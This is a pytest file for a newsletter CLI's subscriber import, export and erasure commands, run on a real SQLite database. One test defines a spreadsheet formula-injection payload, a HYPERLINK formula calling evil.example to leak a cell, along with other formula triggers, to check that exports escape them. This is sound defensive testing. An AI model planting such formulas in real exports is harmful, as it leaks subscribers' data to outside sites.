"""`newsletter subscribers ...` as a user runs it, on a real SQLite file.

The command runs in this process (click's CliRunner, through tests.support.invoke_cli) with the
environment and folder a subprocess would get: these tests are about what the commands read,
write and say; the real process is exercised by test_hostile, test_send and the crash tests.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
from pathlib import Path

import pytest

from newsletter.config import load_settings
from newsletter.services.signup import parse_signup
from tests.factories import csv_text, write_file
from tests.support import invoke_cli

SPREADSHEET = (
    "Email;name;categories;status\r\n"
    ' Karim.Benali@Example.com ;"Benali, Karim";Économie|Sport;\r\n'
    "karim.benali@example.com;Doublon;;\r\n"
    "pas-une-adresse;Erreur;;\r\n"
    "aicha@exemple.ma;Aïcha Ouédraogo;Culture;\r\n"
)


# More rows than one import batch.
LONG_LIST = "".join(f"r{n}@exemple.ma\r\n" for n in range(25_000))


class Cli:
    def __init__(self, tmp_path: Path) -> None:
        self.cwd = tmp_path
        self.env = {
            **{k: v for k, v in os.environ.items() if not k.startswith("NEWSLETTER_")},
            "NEWSLETTER_DATABASE_URL": f"sqlite:///{tmp_path / 'data' / 'list.db'}",
        }

    def __call__(self, *args: str) -> subprocess.CompletedProcess[str]:
        return invoke_cli("subscribers", *args, env=self.env, cwd=self.cwd)


@pytest.fixture
def cli(tmp_path: Path) -> Cli:
    return Cli(tmp_path)


def test_import_reports_rejects_and_exits_1(cli: Cli, tmp_path: Path) -> None:
    write_file(tmp_path / "abonnes.csv", SPREADSHEET, bom=True)
    result = cli("import", "abonnes.csv")
    assert result.returncode == 1, result.stderr
    assert result.stdout.strip() == "abonnes.csv: 2 added, 0 updated, 0 unchanged, 2 rejected"
    assert "line 3: 'karim.benali@example.com': duplicate of line 2" in result.stderr
    assert "line 4: 'pas-une-adresse':" in result.stderr

    listing = cli("list")
    assert listing.returncode == 0
    assert "Benali, Karim" in listing.stdout and "Aïcha Ouédraogo" in listing.stdout
    assert listing.stdout.strip().endswith("2 subscribers")


def test_import_of_a_clean_file_exits_0_and_twice_changes_nothing(cli: Cli, tmp_path: Path) -> None:
    write_file(tmp_path / "ok.csv", "email,name\na@example.com,A\nb@example.com,B\n")
    first = cli("import", "ok.csv")
    assert (first.returncode, first.stdout.strip()) == (
        0,
        "ok.csv: 2 added, 0 updated, 0 unchanged, 0 rejected",
    )
    second = cli("import", "ok.csv")
    assert (second.returncode, second.stdout.strip()) == (
        0,
        "ok.csv: 0 added, 0 updated, 2 unchanged, 0 rejected",
    )


def test_strict_import_writes_nothing(cli: Cli, tmp_path: Path) -> None:
    write_file(tmp_path / "abonnes.csv", SPREADSHEET)
    result = cli("import", "--strict", "abonnes.csv")
    assert result.returncode == 1
    assert "nothing imported" in result.stdout
    assert cli("export").stdout.splitlines() == ["email,name,categories,locale,status"]

    # Longer than one import batch, the bad row last: still nothing written. Then the clean file
    # imports whole (--strict reads it twice; the BOM must be skipped both times).
    write_file(tmp_path / "long.csv", "email\r\n" + LONG_LIST + "broken\r\n", bom=True)
    assert cli("import", "--strict", "long.csv").returncode == 1
    assert cli("export").stdout.splitlines() == ["email,name,categories,locale,status"]
    write_file(tmp_path / "long.csv", "email\r\n" + LONG_LIST, bom=True)
    result = cli("import", "--strict", "long.csv")
    assert result.stdout.strip() == "long.csv: 25000 added, 0 updated, 0 unchanged, 0 rejected"


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("missing.csv", None, "no such file"),
        ("no_email.csv", "nom;prenom\nA;B\n", "no 'email' column"),
        ("latin1.csv", "email\nzoé@example.com\n".encode("latin-1"), "not UTF-8"),
        # Unusable only far after the first import batch: still nothing written.
        (
            "late_latin1.csv",
            ("email\n" + LONG_LIST + "zoé@example.com\n").encode("latin-1"),
            "not UTF-8 text (near line",
        ),
    ],
)
def test_unreadable_files_exit_2(
    cli: Cli, tmp_path: Path, name: str, content: str | bytes | None, message: str
) -> None:
    if isinstance(content, str):
        write_file(tmp_path / name, content)
    elif content is not None:
        (tmp_path / name).write_bytes(content)
    result = cli("import", name)
    assert result.returncode == 2
    assert result.stderr.startswith("error: ") and message in result.stderr
    assert result.stderr.count("\n") == 1
    assert cli("export").stdout.splitlines() == ["email,name,categories,locale,status"]


def test_export_then_import_into_an_empty_database_round_trips(cli: Cli, tmp_path: Path) -> None:
    write_file(tmp_path / "abonnes.csv", SPREADSHEET, bom=True)
    cli("import", "abonnes.csv")
    cli("unsubscribe", "aicha@exemple.ma")
    exported = cli("export")
    assert exported.returncode == 0
    assert 'Karim.Benali@example.com,"Benali, Karim",Économie|Sport,,active' in exported.stdout
    assert "aicha@exemple.ma,Aïcha Ouédraogo,Culture,,unsubscribed" in exported.stdout
    write_file(tmp_path / "export.csv", exported.stdout)

    other = Cli(tmp_path)
    other.env["NEWSLETTER_DATABASE_URL"] = f"sqlite:///{tmp_path / 'other' / 'list.db'}"
    assert other("import", "export.csv").returncode == 0
    assert other("export").stdout == exported.stdout
    only = other("export", "--status", "unsubscribed").stdout.splitlines()
    assert only[1:] == ["aicha@exemple.ma,Aïcha Ouédraogo,Culture,,unsubscribed"]


def test_add_unsubscribe_forget(cli: Cli) -> None:
    added = cli("add", "Nadia@Example.com", "--name", "Nadia", "--categories", "Sport,Culture")
    assert (added.returncode, added.stdout.strip()) == (0, "Nadia@example.com: added")
    again = cli("add", "nadia@example.com")
    assert again.returncode == 0 and "already on the list" in again.stdout

    assert (
        cli("unsubscribe", "NADIA@example.com").stdout.strip() == "Nadia@example.com: unsubscribed"
    )
    refused = cli("add", "nadia@example.com")
    assert refused.returncode == 1
    assert refused.stderr.startswith("error: Nadia@example.com is unsubscribed")

    forgotten = cli("forget", "nadia@example.com")
    assert forgotten.returncode == 0 and "personal data erased" in forgotten.stdout
    assert "nadia" not in cli("export").stdout.lower()
    assert cli("add", "nadia@example.com").returncode == 1


def test_errors_are_one_line_with_the_right_exit_code(cli: Cli) -> None:
    invalid = cli("add", "not-an-address")
    assert invalid.returncode == 2
    assert invalid.stderr.strip().count("\n") == 0 and "@-sign" in invalid.stderr
    unknown = cli("unsubscribe", "nobody@example.com")
    assert unknown.returncode == 1
    assert unknown.stderr.strip() == (
        "error: nobody@example.com is not on the list (see `newsletter subscribers list`)"
    )


# A sign-up name that, opened in a spreadsheet, would send the next cell to another site.
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Cliquez ici")'
FORMULA_NAMES = [HYPERLINK, "+212 6 12 34 56", "-moins", "@SUM(A1:A9)", "Ordinaire"]


def test_export_escapes_formula_cells_and_import_round_trips_them(cli: Cli, tmp_path: Path) -> None:
    rows = [["email", "name"]] + [
        [f"f{n}@exemple.ma", name] for n, name in enumerate(FORMULA_NAMES)
    ]
    write_file(tmp_path / "in.csv", csv_text(rows))
    assert cli("import", "in.csv").returncode == 0
    # A name that really starts with ' and a trigger (typed by hand, not escaped by an export).
    assert cli("add", "quote@exemple.ma", "--name", "'=déjà échappé").returncode == 0

    exported = cli("export")
    names = [row[1] for row in csv.reader(io.StringIO(exported.stdout, newline=""))][1:]
    assert names == [f"'{n}" for n in FORMULA_NAMES[:4]] + ["Ordinaire", "''=déjà échappé"]
    assert not any(cell[:1] in "=+-@\t\r" for cell in names)

    write_file(tmp_path / "export.csv", exported.stdout)
    other = Cli(tmp_path)
    other.env["NEWSLETTER_DATABASE_URL"] = f"sqlite:///{tmp_path / 'other' / 'list.db'}"
    assert other("import", "export.csv").returncode == 0
    assert other("export").stdout == exported.stdout
    listed = other("list").stdout
    assert HYPERLINK[:20] in listed and "'=déjà échappé" in listed and "'-moins" not in listed


def test_control_characters_are_dropped_from_names_on_every_input_path(
    cli: Cli, tmp_path: Path
) -> None:
    dirty = "Jo\x07sé\x1b[31m\x9b Dupont\x7f\tde la\nTour"
    assert cli("add", "cli@exemple.ma", "--name", dirty).returncode == 0
    write_file(
        tmp_path / "dirty.csv", csv_text([["email", "name"], ["csv@exemple.ma", f"\x00{dirty}"]])
    )
    assert cli("import", "dirty.csv").returncode == 0
    form = parse_signup(load_settings(environ={}), "web@exemple.ma", dirty, [])

    clean = "José[31m Dupont de la Tour"
    assert form.name == clean
    exported = cli("export").stdout
    listed = cli("list").stdout
    for output in (exported, listed):
        assert not any((ord(c) < 32 and c not in "\r\n") or 0x7F <= ord(c) <= 0x9F for c in output)
    assert f"cli@exemple.ma,{clean},,,active" in exported
    assert f"csv@exemple.ma,{clean},,,active" in exported
    assert clean in listed


def test_a_rejected_huge_value_is_echoed_cut_to_80_characters(cli: Cli, tmp_path: Path) -> None:
    huge = "x" * 1_000_000
    rows = [
        ["email", "locale", "status"],
        [huge + "@exemple.ma", "", ""],
        ["a@exemple.ma", huge, ""],
        ["b@exemple.ma", "", huge],
    ]
    write_file(tmp_path / "huge.csv", csv_text(rows))
    result = cli("import", "huge.csv")
    assert result.returncode == 1
    lines = result.stderr.splitlines()
    assert len(lines) == 3 and all(len(line) < 400 for line in lines), result.stderr[:2000]
    assert lines[0].startswith(f"line 2: '{'x' * 79}…': ")
    assert f"unknown locale '{'x' * 79}…'" in lines[1]
    assert f"unknown status '{'x' * 79}…'" in lines[2]


def test_export_for_excel_has_a_bom_semicolons_and_crlf_and_imports_back(
    cli: Cli, tmp_path: Path
) -> None:
    import sys

    write_file(tmp_path / "abonnes.csv", SPREADSHEET, bom=True)
    cli("import", "abonnes.csv")
    proc = subprocess.run(  # the real process: the bytes on stdout are what Excel opens
        [sys.executable, "-m", "newsletter", "subscribers", "export", "--excel"],
        capture_output=True,
        env=cli.env,
        cwd=tmp_path,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    raw = proc.stdout
    assert raw.startswith(b"\xef\xbb\xbfemail;name;categories;locale;status\r\n")
    assert raw.count(b"\r\n") == 3 and b"\n" not in raw.replace(b"\r\n", b"")
    assert "Karim.Benali@example.com;Benali, Karim;Économie|Sport;;active\r\n".encode() in raw
    (tmp_path / "excel.csv").write_bytes(raw)

    other = Cli(tmp_path)
    other.env["NEWSLETTER_DATABASE_URL"] = f"sqlite:///{tmp_path / 'other' / 'list.db'}"
    imported = other("import", "excel.csv")
    assert imported.returncode == 0, imported.stderr
    assert other("export").stdout == cli("export").stdout
